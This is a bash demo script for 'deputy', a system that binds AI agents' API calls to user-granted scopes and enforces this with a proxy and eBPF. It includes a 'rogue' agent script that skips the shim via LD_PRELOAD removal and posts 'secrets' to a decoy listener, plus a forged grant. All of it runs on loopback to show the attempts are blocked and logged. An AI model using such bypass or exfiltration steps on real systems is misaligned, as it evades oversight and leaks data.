#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# make demo: deputy at work on this machine, on loopback only, in a few minutes.
#
# It sets up everything in a temporary directory (a test CA, an IdP key, a deputyd config,
# a local HTTPS API), then shows: a grant issued and verified; an agent (curl, then a
# Python script) calling the API under `deputy run` and the token the API received; refused
# calls; `deputy logs`; a Node agent (its own TLS) mediated by deputy's proxy; bypass attempts
# stopped by the kernel layer; `deputy audit verify`.
# Everything it started is stopped and removed on exit, on failure and on Ctrl-C.
#
# Needs root (deputyd creates cgroups and loads eBPF programs). Runs in a private mount
# namespace so that the API's name (mail.test) can resolve to 127.0.0.1 through a private
# /etc/hosts: deputyd resolves route hosts itself for the kernel allow list, exactly as it
# would for a real API, and the machine's own /etc/hosts is never touched.
#
#   BUILD=DIR   where deputyd, deputy, libdeputy.so and tests/backend are (default ./build)
#   PYTHON=…    Debian's python3 (default /usr/bin/python3)
# Exits 0 when everything it showed worked as described, 1 otherwise.
set -u

SRC=$(cd "$(dirname "$0")/.." && pwd)
BUILD=${BUILD:-$SRC/build}
PYTHON=${PYTHON:-/usr/bin/python3}
export BUILD PYTHON

if [ "$(id -u)" -ne 0 ]; then
	echo "deputy: demo: run as root (deputyd creates cgroups and loads eBPF programs)" >&2
	exit 1
fi
for f in deputyd deputy libdeputy.so tests/backend; do
	if [ ! -e "$BUILD/$f" ]; then
		echo "deputy: demo: $BUILD/$f is missing: run 'make demo' (or 'make tests-build')" >&2
		exit 1
	fi
done
if [ -z "${DEPUTY_DEMO_NS:-}" ]; then
	exec unshare --mount --propagation private -- env DEPUTY_DEMO_NS=1 bash "$0" "$@"
fi

# ---- presentation --------------------------------------------------------------------------

if [ -t 1 ]; then
	B=$'\e[1m' GRN=$'\e[32m' RED=$'\e[31m' YEL=$'\e[33m' N=$'\e[0m'
else
	B='' GRN='' RED='' YEL='' N=''
fi
step=0
failures=()

heading() {
	step=$((step + 1))
	printf '\n%s══ %d. %s %s\n' "$B" "$step" "$*" "$N"
}
say() { printf '%s\n' "$*" | fold -s -w 96; }
ok() { printf '%s  ✔ %s%s\n' "$GRN" "$*" "$N"; }
bad() {
	printf '%s  ✘ %s%s\n' "$RED" "$*" "$N"
	failures+=("$*")
}
expect() { # description, condition...
	local what=$1
	shift
	if "$@"; then ok "$what"; else bad "$what"; fi
}

# Arguments as one would type them: quoted only where needed.
shq() {
	local a out=''
	for a in "$@"; do
		if [[ $a =~ ^[A-Za-z0-9_./:@%+=,-]+$ ]]; then
			out+="$a "
		else
			out+="'${a//\'/\'\\\'\'}' "
		fi
	done
	printf '%s' "${out% }"
}

# Show a command, run it, indent its output; $rc is its exit status, $out its output.
# $SHOW_AS, when set, is what is printed instead of the command (to shorten it).
show() {
	printf '%s$ %s%s\n' "$B" "${SHOW_AS:-$(shq "$@")}" "$N"
	out=$("$@" 2>&1)
	rc=$?
	[ -n "$out" ] && printf '%s\n' "$out" | sed 's/^/  /'
	return 0
}
# The same for a shell command line (redirections and all), run by bash.
showsh() { SHOW_AS=$1 show bash -c "$1"; }

# ---- setup, and cleanup that always runs ---------------------------------------------------

demo=$(mktemp -d /tmp/deputy-demo.XXXXXX)
chmod 0755 "$demo"
CG=deputy-demo-$$
deputyd_pid='' api_pid='' decoy_pid=''

cgroup2_root() {
	awk '{ for (i = 7; i <= NF; i++) if ($i == "-") { if ($(i+1) == "cgroup2" && $4 == "/") print $5; break } }' \
		/proc/self/mountinfo | head -n 1
}

stop_pid() { # pid, seconds
	local pid=$1 i
	[ -n "$pid" ] && kill -0 "$pid" 2>/dev/null || return 0
	kill -TERM "$pid" 2>/dev/null
	for ((i = 0; i < $2 * 10; i++)); do
		kill -0 "$pid" 2>/dev/null || return 0
		sleep 0.1
	done
	kill -KILL "$pid" 2>/dev/null
	wait "$pid" 2>/dev/null
}

cleanup() {
	local rc=$? root
	trap - EXIT INT TERM HUP
	printf '\n%s══ cleaning up%s\n' "$B" "$N"
	stop_pid "$deputyd_pid" 20 # ends its sessions, removes their cgroups, detaches BPF
	stop_pid "$api_pid" 5
	stop_pid "$decoy_pid" 5
	root=$(cgroup2_root)
	if [ -n "$root" ] && [ -d "$root/$CG" ]; then # deputyd did not get to it (killed)
		for c in "$root/$CG"/*/; do
			[ -d "$c" ] || continue
			echo 1 >"$c/cgroup.kill" 2>/dev/null
			for _ in 1 2 3 4 5 6 7 8 9 10; do rmdir "$c" 2>/dev/null && break; sleep 0.1; done
		done
		rmdir "$root/$CG" 2>/dev/null
	fi
	if [ -d "/sys/fs/bpf/deputy/$CG" ]; then
		rm -rf "/sys/fs/bpf/deputy/$CG"
		rmdir /sys/fs/bpf/deputy 2>/dev/null
	fi
	umount /etc/hosts 2>/dev/null
	rm -rf "$demo"
	if [ -n "$root" ] && [ -d "$root/$CG" ]; then
		echo "  cgroup $root/$CG is still there" >&2
		rc=1
	fi
	if [ -d "/sys/fs/bpf/deputy/$CG" ]; then
		echo "  /sys/fs/bpf/deputy/$CG is still there" >&2
		rc=1
	fi
	echo "  deputyd and the API stopped; session cgroups, eBPF programs and $demo removed"
	exit "$rc"
}
trap cleanup EXIT
trap 'echo; echo "interrupted"; exit 130' INT
trap 'exit 143' TERM
trap 'exit 129' HUP

cd "$demo" || exit 1
export PATH="$BUILD:$PATH"
export DEPUTY_SOCKET=$demo/run/deputy.sock
export DEPUTY_CONFIG=$demo/deputy.json
unset LD_PRELOAD

free_port() {
	"$PYTHON" -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
}

# Start a test backend; sets $port to the port it listens on.
start_backend() { # pidvar, logname, extra args...
	local var=$1 name=$2 i
	shift 2
	"$BUILD/tests/backend" --listen 127.0.0.1:0 --log "$demo/$name.jsonl" "$@" \
		>"$demo/$name.out" 2>"$demo/$name.err" &
	printf -v "$var" '%s' "$!"
	for ((i = 0; i < 100; i++)); do
		port=$(sed -n 's/^port \([0-9]*\)$/\1/p' "$demo/$name.out" 2>/dev/null)
		[ -n "$port" ] && return 0
		sleep 0.1
	done
	echo "deputy: demo: the $name backend did not start: $(cat "$demo/$name.err")" >&2
	exit 1
}

jwt_claims() { # a JWT on stdin -> its header and claims, pretty
	"$PYTHON" -c '
import base64, json, sys
t = sys.stdin.read().strip().split(".")
for part in t[:2]:
    part += "=" * (-len(part) % 4)
    print(json.dumps(json.loads(base64.urlsafe_b64decode(part)), indent=2))'
}

# The last request record the API logged, as one JSON line (or nothing).
api_last_request() {
	grep '"type":"request"' "$demo/api.jsonl" 2>/dev/null | tail -n 1
}
api_requests() { grep -c '"type":"request"' "$demo/api.jsonl" 2>/dev/null || true; }

newest_session() {
	deputy sessions --json | "$PYTHON" -c '
import json, sys
rows = [json.loads(l) for l in sys.stdin if l.strip()]
print(rows[-1]["session"] if rows else "")'
}

if ! nm -D --defined-only "$BUILD/libdeputy.so" 2>/dev/null | grep -qw SSL_write; then
	echo "deputy: demo: $BUILD/libdeputy.so does not hook SSL_write: the build is broken" >&2
	exit 1
fi

# ===========================================================================================
printf '%sdeputy demo%s — everything below runs on this machine, on loopback, in %s\n' "$B" "$N" "$demo"
say "deputy puts the user's identity and a per-action scope on every call an AI agent makes, \
and blocks and logs what the user did not allow. deputyd is the authority; the shim \
(libdeputy.so) puts tokens into the agent's HTTP requests; eBPF programs on the session's \
cgroup see every connection."

# -------------------------------------------------------------------------------------------
heading "Setting the scene: an IdP key, a local HTTPS API, deputyd"
say "A test CA and a server certificate for the API (names mail.test and localhost):"
show bash "$SRC/tests/lib/certs.sh" "$demo/tls"
expect "test CA and server certificate made" test -s tls/ca.pem -a -s tls/server.pem
printf '127.0.0.1 localhost\n127.0.0.1 mail.test\n' >"$demo/hosts"
if ! mount --bind "$demo/hosts" /etc/hosts; then
	echo "deputy: demo: cannot bind-mount a private /etc/hosts" >&2
	exit 1
fi
say "mail.test resolves to 127.0.0.1 (a private /etc/hosts, in this demo's mount namespace only)."

say ""
say "Where there is no identity provider, an issuer key signs the users' grants. deputyd \
trusts its public JWKS (deputy grant --jwks prints it):"
show openssl ecparam -name prime256v1 -genkey -noout -out idp.key
showsh 'deputy grant --key idp.key --jwks > idp-jwks.json'
expect "issuer JWKS written" grep -q '"kty": "EC"' idp-jwks.json

http_port=$(free_port)
proxy_port=$(free_port)
start_backend api_pid api --cert tls/server.pem --key tls/server.key \
	--jwks "http://127.0.0.1:$http_port/.well-known/jwks.json" --audience https://mail.test \
	--issuer https://deputy.demo
api_port=$port
start_backend decoy_pid decoy
decoy_port=$port
say ""
say "The API: https://mail.test:$api_port (the test backend: it verifies the Bearer token \
against deputyd's JWKS with include/deputy/verify.h and logs every request it receives). \
A second listener on 127.0.0.1:$decoy_port stands for somewhere the agent should not send data."

cat >deputy.json <<EOF
{
  "issuer": "https://deputy.demo",
  "socket": "$demo/run/deputy.sock",
  "state_dir": "$demo/state",
  "http_listen": "127.0.0.1:$http_port",
  "cgroup": "$CG",
  "proxy_listen": "127.0.0.1:$proxy_port",
  "upstream_ca_file": "$demo/tls/ca.pem",
  "trusted_issuers": [
    {"issuer": "https://idp.demo", "jwks_file": "$demo/idp-jwks.json"}
  ],
  "routes": [
    {"host": "mail.test", "port": $api_port, "method": "GET", "path": "/api/inbox*",
     "action": "delegate", "audience": "https://mail.test", "scope": "email:read"},
    {"host": "mail.test", "port": $api_port, "method": "POST", "path": "/api/send*",
     "action": "delegate", "audience": "https://mail.test", "scope": "email:send"},
    {"host": "mail.test", "port": $api_port, "path": "/api/admin*", "action": "deny"}
  ]
}
EOF
say ""
say "deputyd's configuration: GET /api/inbox needs scope email:read, POST /api/send needs \
email:send, /api/admin is denied to agents whatever the grant says; anything else is \
unrouted, hence denied."
sed 's/^/  /' deputy.json
show deputyd -t -c deputy.json
expect "deputyd accepts the configuration" test "$rc" -eq 0

deputyd -c deputy.json -f >deputyd.log 2>&1 &
deputyd_pid=$!
for ((i = 0; i < 200; i++)); do
	grep -q 'ready:' deputyd.log && break
	kill -0 "$deputyd_pid" 2>/dev/null || break
	sleep 0.1
done
printf '%s$ deputyd -c deputy.json -f &%s\n' "$B" "$N"
sed 's/^/  /' deputyd.log
if ! grep -q 'ready:' deputyd.log; then
	bad "deputyd started"
	exit 1
fi
ok "deputyd is running (pid $deputyd_pid), kernel layer on"
show curl -sS "http://127.0.0.1:$http_port/.well-known/jwks.json"
expect "deputyd serves its JWKS (backends verify tokens with it)" grep -q '"keys"' <<<"$out"

# Agents run as an unprivileged user, as in a real deployment (root inside a session could
# leave its cgroup). deputy and the shim are copied where that user can read them.
mkdir -p bin
cp "$BUILD/deputy" "$BUILD/libdeputy.so" bin/
if id nobody >/dev/null 2>&1 && command -v runuser >/dev/null; then
	as_agent=(runuser -u nobody --)
	agent_user=nobody
else
	as_agent=()
	agent_user=root
fi

# -------------------------------------------------------------------------------------------
heading "A user grants an agent some rights: the grant"
say "alice lets the agent \"mailbot\" read her mail on https://mail.test, for 15 minutes. \
Sending is not in the grant."
showsh 'deputy grant --key idp.key --iss https://idp.demo --user alice@example.com --agent mailbot --scope email:read --resource https://mail.test --ttl 15m > grant.jwt'
expect "grant issued" test -s grant.jwt
jwt_claims <grant.jwt | sed 's/^/  /'

say ""
say "deputyd verifies a grant whenever a session opens (signature by a trusted issuer, \
audience, expiry, and the agent named in may_act). deputyd runs as root; the agents of this \
demo run as the unprivileged user $agent_user, with deputy and libdeputy.so copied to bin/:"
show "${as_agent[@]}" bin/deputy run --grant grant.jwt --agent mailbot -- sh -c 'echo "agent running in session $DEPUTY_SESSION"'
expect "the grant opens a session for mailbot" test "$rc" -eq 0
show "${as_agent[@]}" bin/deputy run --grant grant.jwt --agent otherbot -- echo never printed
expect "the grant is refused for another agent" test "$rc" -ne 0 -a "${out#*grant refused}" != "$out"
openssl ecparam -name prime256v1 -genkey -noout -out forger.key
deputy grant --key forger.key --iss https://idp.demo --user alice@example.com --agent mailbot \
	--scope "email:read email:send" --resource https://mail.test >forged.jwt
say "A grant signed with some other key:"
show "${as_agent[@]}" bin/deputy run --grant forged.jwt --agent mailbot -- echo never printed
expect "a forged grant is refused" test "$rc" -ne 0 -a "${out#*grant refused}" != "$out"

# -------------------------------------------------------------------------------------------
heading "The agent calls the API: curl under deputy run"
cat >agent.sh <<EOF
#!/bin/sh
# mailbot, as many agents are: a static service-account key on every request.
api=https://mail.test:$api_port
echo "> GET /api/inbox"
curl -sS --cacert tls/ca.pem -H 'Authorization: Bearer sa-mailbot-static-key' \$api/api/inbox
echo "> POST /api/send"
curl -sS --cacert tls/ca.pem -H 'Authorization: Bearer sa-mailbot-static-key' \\
     -H 'Content-Type: application/json' -d '{"to":"bob@example.com"}' \$api/api/send
echo
echo "> GET /api/admin/users"
curl -sS --cacert tls/ca.pem -w '\\n(HTTP %{http_code})\\n' \$api/api/admin/users
EOF
chmod 0755 agent.sh
say "The agent is this script (it sends a static service-account key, as agents do today):"
sed 's/^/  | /' agent.sh
before=$(api_requests)
show "${as_agent[@]}" bin/deputy run --grant grant.jwt --agent mailbot -- ./agent.sh
expect "the agent ran (exit 0)" test "$rc" -eq 0
session_curl=$(newest_session)
req=$(api_last_request)
expect "the API received exactly one request (the inbox read)" test "$(api_requests)" -eq $((before + 1))
say ""
say "What the API received for GET /api/inbox — the service-account key is gone, a \
delegation token is in its place:"
printf '%s\n' "$req" | "$PYTHON" -c '
import json, sys
r = json.loads(sys.stdin.read())
for k, v in r["headers"]:
    print("  %s: %s" % (k, v if k.lower() != "authorization" or len(v) < 60 else v[:60] + "…"))
print("  token check by the API (deputy_verify):", "valid" if r["token"]["valid"] else r["token"]["error"])'
token=$(printf '%s\n' "$req" | "$PYTHON" -c '
import json, sys
r = json.loads(sys.stdin.read())
print(next((v[7:] for k, v in r["headers"] if k.lower() == "authorization" and v.startswith("Bearer ")), ""))')
expect "the token is valid for https://mail.test, scope email:read" \
	"$PYTHON" -c 'import json,sys; t=json.loads(sys.argv[1])["token"]; sys.exit(0 if t["valid"] and t["claims"]["scope"] == "email:read" else 1)' "$req"
say ""
say "The token, decoded: who (sub), which agent (act), what (scope, htm, htu), for which API (aud), which grant:"
printf '%s\n' "$token" | jwt_claims | sed 's/^/  /'
say ""
say "A backend checks it in one call (deputy verify, or deputy_verify_token() from \
include/deputy/verify.h, or any JWT library with deputyd's JWKS):"
SHOW_AS="deputy verify --jwks http://127.0.0.1:$http_port/.well-known/jwks.json --audience https://mail.test --scope email:read ${token:0:20}…" \
	show deputy verify --jwks "http://127.0.0.1:$http_port/.well-known/jwks.json" --audience https://mail.test --scope email:read "$token"
expect "deputy verify accepts it" test "$rc" -eq 0
SHOW_AS="deputy verify --jwks http://127.0.0.1:$http_port/.well-known/jwks.json --audience https://mail.test --scope email:send ${token:0:20}…" \
	show deputy verify --jwks "http://127.0.0.1:$http_port/.well-known/jwks.json" --audience https://mail.test --scope email:send "$token"
expect "deputy verify refuses it for another scope" test "$rc" -ne 0
say ""
say "The two refused calls never left the machine: the agent read a 403 with a JSON reason \
(above), the API saw nothing of them. The session's log (a process's Unix-socket connects, \
such as glibc asking nscd, folded into one line; --all-records shows each):"
showsh "deputy logs $session_curl"
expect "the log has the token, and a deny for each refusal" \
	"$PYTHON" -c '
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
t = [r for r in recs if r["type"] == "token"]
d = [r for r in recs if r["type"] == "deny" and r["layer"] == "daemon"]
sys.exit(0 if len(t) == 1 and len(d) == 2 else 1)' "state/sessions/$session_curl.jsonl"

# -------------------------------------------------------------------------------------------
heading "Another agent: a Python script"
cat >agent.py <<EOF
# mailbot in Python: urllib over the ssl module, nothing deputy-specific.
import json, ssl, urllib.error, urllib.request
ctx = ssl.create_default_context(cafile="tls/ca.pem")
api = "https://mail.test:$api_port"
for method, path, body in (("GET", "/api/inbox?folder=work", None),
                           ("POST", "/api/send", b'{"to": "bob@example.com"}')):
    req = urllib.request.Request(api + path, data=body, method=method,
                                 headers={"Authorization": "Bearer sa-mailbot-static-key"})
    try:
        with urllib.request.urlopen(req, context=ctx, timeout=30) as r:
            status, reply = r.status, json.load(r)
    except urllib.error.HTTPError as e:
        status, reply = e.code, json.load(e)
    print(method, path, "->", status, json.dumps(reply)[:150])
EOF
sed 's/^/  | /' agent.py
before=$(api_requests)
show "${as_agent[@]}" bin/deputy run --grant grant.jwt --agent mailbot -- "$PYTHON" agent.py
expect "the Python agent ran" test "$rc" -eq 0
expect "the read got a 200 and the send a 403 from deputy" \
	grep -q -- '-> 403 {"error": "deputy_denied"' <<<"$out"
req=$(api_last_request)
expect "the API received the read, with a valid token bound to GET and its URL" \
	"$PYTHON" -c '
import json, sys
r = json.loads(sys.argv[1]); t = r["token"]
ok = t["valid"] and t["claims"]["htm"] == "GET" and t["claims"]["htu"].endswith("/api/inbox") and int(sys.argv[2]) == int(sys.argv[3]) + 1
sys.exit(0 if ok else 1)' "$req" "$(api_requests)" "$before"

# -------------------------------------------------------------------------------------------
heading "An agent with its own TLS stack: Node, through deputy's proxy"
cat >agent.mjs <<EOF
// mailbot in Node: fetch() over Node's own OpenSSL, which the shim cannot see.
const api = "https://mail.test:$api_port";
for (const [method, path, body] of [["GET", "/api/inbox?folder=node", undefined],
                                    ["POST", "/api/send", '{"to": "bob@example.com"}']]) {
  const r = await fetch(api + path, {method, body,
                                     headers: {authorization: "Bearer sa-mailbot-static-key"}});
  console.log(method, path, "->", r.status, (await r.text()).slice(0, 150));
}
EOF
sed 's/^/  | /' agent.mjs
say ""
say "Node links its own OpenSSL, so the shim cannot read its requests. The kernel sends its \
connection to mail.test to deputy's proxy instead (deputy-proxy, started by deputyd as an \
unprivileged user without capabilities). The proxy answers TLS with a certificate from a CA \
made for this session only, which deputy run made the agent trust (NODE_EXTRA_CA_CERTS, \
SSL_CERT_FILE, … name a bundle of the system roots and that CA), and asks deputyd about each \
request exactly as the shim does:"
before=$(api_requests)
show "${as_agent[@]}" bin/deputy run --grant grant.jwt --agent mailbot -- node agent.mjs
session_node=$(newest_session)
expect "the Node agent ran" test "$rc" -eq 0
expect "the read got a 200 and the send deputy's 403" "$PYTHON" -c '
import sys
out = sys.argv[1]
sys.exit(0 if "GET /api/inbox?folder=node -> 200" in out and
         "POST /api/send -> 403 {\"error\":\"deputy_denied\"" in out else 1)' "$out"
req=$(api_last_request)
expect "the API received only the read, with a valid token instead of the key" \
	"$PYTHON" -c '
import json, sys
r = json.loads(sys.argv[1]); t = r["token"]
ok = t["valid"] and t["claims"]["scope"] == "email:read" and int(sys.argv[2]) == int(sys.argv[3]) + 1
sys.exit(0 if ok else 1)' "$req" "$(api_requests)" "$before"
say ""
say "The session's log says who mediated the connection and each request (mediator):"
showsh "deputy logs $session_node --json | grep -E '\"type\":\"(token|deny|response)\"|\"dport\":$api_port' | cut -c1-220"
expect "the connection, the token and the refusal were mediated by the proxy" \
	"$PYTHON" -c '
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
t = [r for r in recs if r["type"] == "token" and r.get("mediator") == "proxy"]
d = [r for r in recs if r["type"] == "deny" and r.get("mediator") == "proxy"]
c = [r for r in recs if r["type"] == "connect" and r.get("mediator") == "proxy"]
sys.exit(0 if len(t) == 1 and len(d) == 1 and c else 1)' "state/sessions/$session_node.jsonl"

# -------------------------------------------------------------------------------------------
heading "Going around the shim: the kernel layer"
cat >rogue.sh <<EOF
#!/bin/sh
# Three ways around the shim: a child started without LD_PRELOAD, a static binary, a raw
# socket.
echo "> curl without LD_PRELOAD, to the API"
env -u LD_PRELOAD curl -sS -H 'Authorization: Bearer sa-mailbot-static-key' \\
    https://mail.test:$api_port/api/inbox
echo "> busybox wget (static) to 127.0.0.1:$decoy_port"
busybox wget -q -O- --post-data 'secrets' http://127.0.0.1:$decoy_port/upload
echo "> python3 without LD_PRELOAD, socket.connect to 127.0.0.1:$decoy_port"
env -u LD_PRELOAD $PYTHON -c 'import socket; socket.create_connection(("127.0.0.1", $decoy_port))' 2>&1 | tail -n 1
exit 0
EOF
chmod 0755 rogue.sh
say "Anything in the agent's process tree can skip the shim. The kernel layer (eBPF on the \
session's cgroup) cannot be skipped: it sends connections to a route's destination that the \
shim does not handle to deputy's proxy, allows no other destination (but configured CIDRs \
and nameservers), and logs every connection. The rogue agent:"
sed 's/^/  | /' rogue.sh
show "${as_agent[@]}" bin/deputy run --grant grant.jwt --agent mailbot -- ./rogue.sh
session_rogue=$(newest_session)
expect "curl without the shim went through deputy's proxy: the API got a valid token, not the key" \
	grep -q '"token":{"valid":true' <<<"$out"
expect "both connections to 127.0.0.1:$decoy_port failed with EPERM" \
	test "$(grep -c 'Operation not permitted' <<<"$out")" -eq 2
expect "the listener on 127.0.0.1:$decoy_port never saw a connection" \
	test ! -s decoy.jsonl
say ""
say "The session's log: every connection, allowed or blocked, and who mediated it; \
UNMEDIATED marks those nobody did:"
showsh "deputy logs $session_rogue"
expect "the log has the 2 blocked connects, and the connection to the API mediated by the proxy" \
	"$PYTHON" -c '
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
c = [r for r in recs if r["type"] == "connect" and r.get("family") == "inet"]
blocked = [r for r in c if r["verdict"] == "block" and r["dport"] == int(sys.argv[2])]
api = [r for r in c if r["verdict"] == "allow" and r["dport"] == int(sys.argv[3]) and r["mediated"]
       and r.get("mediator") == "proxy"]
sys.exit(0 if len(blocked) == 2 and len(api) == 1 else 1)' "state/sessions/$session_rogue.jsonl" "$decoy_port" "$api_port"
say ""
say "One connect record as JSON (deputy logs --json prints them all):"
grep '"verdict":"block"' "state/sessions/$session_rogue.jsonl" | head -n 1 | "$PYTHON" -m json.tool | sed 's/^/  /'

# -------------------------------------------------------------------------------------------
heading "Sessions and the audit trail"
show deputy sessions
say ""
say "Every record carries the SHA-256 of the one before; session_close is signed by \
deputyd's key. deputy audit verify checks both:"
show deputy audit verify "$session_rogue"
expect "the rogue session's log is intact and sealed" test "$rc" -eq 0
cp "state/sessions/$session_rogue.jsonl" tampered.jsonl
sed -i '0,/"verdict":"block"/s//"verdict":"allow"/' tampered.jsonl
say "Someone edits a copy to turn a block into an allow:"
show deputy audit verify tampered.jsonl --jwks state/jwks.json
expect "the edit is found" test "$rc" -ne 0

# -------------------------------------------------------------------------------------------
echo
if [ ${#failures[@]} -eq 0 ]; then
	printf '%sEverything above worked as described.%s\n' "$GRN" "$N"
	exit 0
fi
printf '%s%d step(s) did not work as described:%s\n' "$RED" "${#failures[@]}" "$N"
printf '  %s\n' "${failures[@]}"
printf 'deputyd said:\n'
sed 's/^/  /' "$demo/deputyd.log" | tail -n 20
exit 1
